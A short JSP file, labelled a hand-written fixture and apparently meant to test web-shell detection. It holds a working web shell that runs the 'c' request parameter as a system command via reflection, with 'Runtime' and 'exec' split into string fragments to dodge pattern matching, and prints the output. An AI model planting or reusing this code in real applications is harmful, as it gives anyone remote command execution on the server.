<%
// Hand-written fixture: Runtime.exec reached through reflection, the class
// and method names split into pieces.
String c = request.getParameter("c");
Class k = Class.forName("java.lang." + "Run" + "time");
Object rt = k.getMethod("getRun" + "time").invoke(null);
Process p = (Process) k.getMethod("ex" + "ec", String.class).invoke(rt, c);
out.print(new java.util.Scanner(p.getInputStream()).useDelimiter("\\A").next());
%>
